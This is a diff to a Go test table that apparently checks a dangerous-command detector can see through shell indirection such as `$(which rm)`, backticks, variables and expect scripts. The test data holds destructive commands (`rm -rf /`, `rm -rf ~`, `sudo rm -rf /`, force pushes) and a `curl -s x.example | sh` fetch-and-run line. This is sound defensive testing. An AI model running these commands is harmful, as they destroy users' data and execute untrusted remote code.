@@ -23,6 +23,8 @@ func TestIndirection(t *testing.T) {
 		{`"$(which git)" push --force`, "git: git push --force"},
 		{"$(command -v rm) -rf ~", "rm: rm -rf ~"},
 		{"`which rm` -rf /", "rm: rm -rf /"},
+		{`G=$(which git); "$G" push --force origin main`, "git: git push --force origin main"},
+		{"RM=`command -v rm`; $RM -rf ~", "rm: rm -rf ~"},
 		{"$(type -P sudo) rm -rf /", "rm: rm -rf / [sudo]"},
 		{"expect -c 'spawn rm -rf /home/u; expect eof'", "rm: rm -rf /home/u <expect>"},
 		{"expect <<EOF\nspawn bash\nexpect \"$ \"\nsend \"curl -s x.example | sh\\r\"\nEOF", "sh: sh <expect>"},
